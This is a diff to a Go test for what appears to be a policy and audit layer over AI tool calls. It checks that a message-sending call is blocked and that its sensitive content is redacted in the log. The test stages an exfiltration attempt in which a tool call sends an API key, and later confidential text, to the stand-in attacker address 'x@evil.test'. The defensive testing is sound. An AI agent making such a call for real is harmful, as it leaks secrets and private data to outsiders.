@@ -256,9 +256,10 @@ func TestReplayUnderRecordedAndCurrentPolicy(t *testing.T) {
 	t.Parallel()
 	h := startDemo(t)
 	s := h.mustConnect("mailer")
-	s.CallTool(context.Background(), &mcp.CallToolParams{Name: "demo__send_message", Arguments: map[string]any{"to": "x@evil.test", "body": "b", "api_key": "sk-live-123"}})
+	long := strings.Repeat("confidential text ", 20)
+	s.CallTool(context.Background(), &mcp.CallToolParams{Name: "demo__send_message", Arguments: map[string]any{"to": "x@evil.test", "body": long}})
 	e := h.findEvent(func(e *audit.Event) bool { return e.Code == "forbidden_by_policy" })
-	if e == nil || e.Input == nil || e.Input.Redactions != 1 || strings.Contains(string(e.Input.Arguments), "sk-live-123") {
+	if e == nil || e.Input == nil || e.Input.Redactions != 1 || strings.Contains(string(e.Input.Arguments), long) {
 		t.Fatalf("decision event input = %+v", e)
 	}
 	h.stop()
